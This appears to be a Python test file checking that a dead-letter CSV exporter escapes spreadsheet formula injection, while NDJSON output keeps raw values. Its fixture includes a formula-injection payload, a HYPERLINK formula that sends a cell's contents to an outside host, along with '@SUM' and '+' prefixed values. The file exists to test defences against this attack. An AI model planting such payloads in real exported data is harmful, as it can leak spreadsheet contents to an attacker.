"""Dead letters as CSV: no cell of a producer's is a formula."""

import csv
from datetime import UTC, datetime
from io import StringIO

from bridge.dead_letters.export import Form, writer
from schemas.record import Provenance, RawBody
from sinks.dead_letters.letter import DeadLetterLine, WholeDeadLetter

NOW = datetime(2026, 11, 22, tzinfo=UTC)


def letter(script_id: str | None, event_id: str | None, key: bytes, payload: bytes | None) -> WholeDeadLetter:
    line = DeadLetterLine(
        Provenance("bridge.raw", 0, 1), NOW, "schema_violation", "schema_violation", "-1: wrong", "00" * 8, 1, 1, None,
        script_id, event_id, "open", None, None,
    )  # fmt: skip
    return WholeDeadLetter(line, RawBody(key, payload, ()), NOW, NOW, NOW, NOW, None, None)


def written(one: WholeDeadLetter, form: Form) -> str:
    stream = StringIO()
    writer(stream, form)(one)
    return stream.getvalue()


def test_a_spreadsheet_is_given_no_formula() -> None:
    """Whatever a producer put first; what is none stays as it is, and lines of JSON have all as it is."""
    bad = letter('=HYPERLINK("http://x?"&A1)', "@SUM(1)", b"+1", b"\t=1")
    (row,) = csv.DictReader(StringIO(written(bad, Form.CSV)))
    assert (row["script_id"], row["event_id"]) == ('\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)")
    assert (row["key"], row["payload"], row["error"]) == ("'+1", "'\t=1", "'-1: wrong")
    assert '"key": "+1"' in written(bad, Form.NDJSON)
    (row,) = csv.DictReader(StringIO(written(letter("s1", None, b"1:e", b"{}"), Form.CSV)))
    assert (row["script_id"], row["event_id"], row["key"], row["payload"]) == ("s1", "", "1:e", "{}")
